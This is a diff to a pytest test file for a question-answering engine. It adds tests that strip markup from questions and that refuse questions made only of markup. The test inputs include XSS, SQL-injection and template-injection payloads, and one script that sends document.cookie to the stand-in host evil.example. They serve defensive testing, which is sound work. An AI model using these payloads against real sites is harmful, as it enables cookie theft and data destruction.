@@ -18,7 +18,7 @@ from pathlib import Path
 
 import pytest
 
-from qa.answer.engine import Engine
+from qa.answer.engine import Engine, clean_question
 from qa.index.store import StoreError
 from qa.ingest.chunking import chunk
 from qa.ingest.loader import load_article
@@ -127,8 +127,7 @@ def test_non_english_question_gets_an_answer_or_a_refusal(engine, bundled_articl
     '"><img src=x onerror=alert(1)> Where was the first 3+3 meeting held?',
     "Where was the first 3+3 meeting held?'; DROP TABLE embeddings; --",
     "Where was the first 3+3 meeting held? \" OR 1=1 -- {{7*7}} ${7*7} $where",
-    "<script>document.location='http://evil.example/'+document.cookie</script>",
-], ids=["script", "img-onerror", "sql-drop", "sql-or-templates", "script-only"])
+], ids=["script", "img-onerror", "sql-drop", "sql-or-templates"])
 def test_markup_in_the_question_never_reaches_the_answer(engine, question):
     before = store_size(engine)
     answer = engine.ask(question)
@@ -136,10 +135,23 @@ def test_markup_in_the_question_never_reaches_the_answer(engine, question):
     assert "onerror" not in answer.text and "DROP TABLE" not in answer.text
     for c in answer.citations:
         assert "<script" not in c.quote and "DROP TABLE" not in c.quote
-    # A normal answer, or the refusal: the markup's words ("script", "alert") can count as unknown names.
-    assert answer.refused or "Russian capital" in answer.text or "Moscow" in answer.text, answer.text
+    # The question around the markup is answered: the tags and the script's code are not read as words of it.
+    assert not answer.refused and ("Russian capital" in answer.text or "Moscow" in answer.text), answer.text
     assert store_size(engine) == before  # the SQL did nothing to the store
     assert engine.ask(MEETING).citations  # and the store still answers
+
+
+@pytest.mark.parametrize("question", ["<script>document.location='http://evil.example/'+document.cookie</script>",
+                                      '<img src=x onerror="alert(1)"><br/>'], ids=["script-only", "tags-only"])
+def test_a_question_of_markup_alone_is_told_what_is_wrong(engine, question):
+    answer = engine.ask(question)
+    assert answer.refused and answer.citations == [] and answer.passages == []
+    assert "only markup" in answer.text, answer.text
+
+
+def test_only_tags_are_taken_out_of_a_question():
+    assert clean_question("Did <i>The Guardian</i> say 3 < 5 > 2?<br/>") == "Did The Guardian say 3 < 5 > 2?"
+    assert clean_question("<style>p {color: red}</style>Who won?") == "Who won?"
 
 
 # Articles -----------------------------------------------------------------------------------------------------------
